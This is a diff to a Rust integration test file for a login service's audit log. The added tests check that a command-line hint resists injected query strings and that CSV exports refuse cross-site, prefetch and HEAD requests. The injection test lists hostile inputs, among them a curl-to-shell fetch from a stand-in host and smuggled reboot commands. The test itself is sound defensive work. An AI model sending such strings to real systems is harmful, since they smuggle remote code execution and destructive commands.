@@ -1,7 +1,14 @@
 //! Administrators read the audit log, the overview and why someone could not log in.
 
-use crate::harness::{Client, Engine, PASSWORD, Reply, TestApp, act, eventually, first_column, id_of, someone_with};
+use crate::harness::{
+    Client, Engine, PASSWORD, Reply, TestApp, act, administrator, eventually, first_column, id_of, someone_with,
+};
+use doorward::domain::directory::audit::AuditQuery;
+use doorward::domain::directory::audit_export::{AuditFormat, export};
 use doorward::domain::hourly_counts;
+use doorward::model::principal::Operation;
+use doorward::model::roles::PlatformRole;
+use reqwest::Method;
 use serde_json::Value;
 
 both_engines![
@@ -9,6 +16,8 @@ both_engines![
     overview_counts_and_says_what_is_to_be_set,
     audit_log_is_searched_by_person_actor_and_kind,
     audit_log_is_downloaded_as_csv_and_ndjson,
+    command_line_has_nothing_that_a_link_says,
+    export_ends_with_the_role_and_begins_for_no_other_site,
     refused_changes_of_auditors_are_audited,
     person_page_says_why_they_could_not_log_in,
     replay_of_all_failed_events_is_a_job_that_shows_its_progress,
@@ -101,6 +110,33 @@ async fn audit_log_is_downloaded_as_csv_and_ndjson(engine: Engine) {
     auditor.get("/auth/admin/audit?kind=audit_exported").await.snapshot("admin/audit");
     app.anonymous().get("/auth/admin/audit").await.snapshot("admin/audit_logged_out");
     auditor.get("/auth/admin/audit/export?format=csv&kind=passkey_added").await.snapshot("admin/export_done");
+}
+
+async fn command_line_has_nothing_that_a_link_says(engine: Engine) {
+    let (_app, admin) = with_admin(engine).await;
+    for query in ["key:x;curl+evil.example|sh+%23", "key:$(reboot)", "operator;reboot", "`reboot`"] {
+        let text = admin.get(&format!("/auth/admin/audit?query={query}")).await.expect(200).text();
+        let command = text.split("<p class=\"hint command\">").nth(1).unwrap().split("</p>").next().unwrap();
+        assert!(!command.contains("curl") && !command.contains("reboot"), "{command}");
+    }
+    let text = admin.get("/auth/admin/audit?query=key:billing").await.expect(200).text();
+    assert!(text.contains("<code>doorward --json user audit key:billing --all</code>"), "{text}");
+}
+
+async fn export_ends_with_the_role_and_begins_for_no_other_site(engine: Engine) {
+    let (app, admin) = with_admin(engine).await;
+    let path = "/auth/admin/audit/export?format=csv";
+    admin.get(path).header("sec-fetch-mode", "navigate").header("sec-fetch-site", "cross-site").await.expect(403);
+    admin.get(path).header("sec-purpose", "prefetch").await.expect(403);
+    admin.call(Method::HEAD, path).await.expect(403);
+    assert_eq!(app.database().count("SELECT count(*) FROM audit WHERE kind = 'audit_exported'").await, 0);
+    let by = administrator(&app, PlatformRole::Auditor, "").await;
+    let mut export = export(&app.app, &by, AuditQuery::default(), AuditFormat::Ndjson).await.unwrap();
+    app.database().execute("UPDATE users SET roles = '' WHERE email = 'auditor@example.com'").await;
+    // What was read before is written; nothing more is read.
+    let mut conn = app.app.store.read(&by, Operation::ReadActivity).await;
+    assert!(conn.as_mut().is_err());
+    assert!(export.next_chunk().await.unwrap().is_some());
 }
 
 async fn refused_changes_of_auditors_are_audited(engine: Engine) {
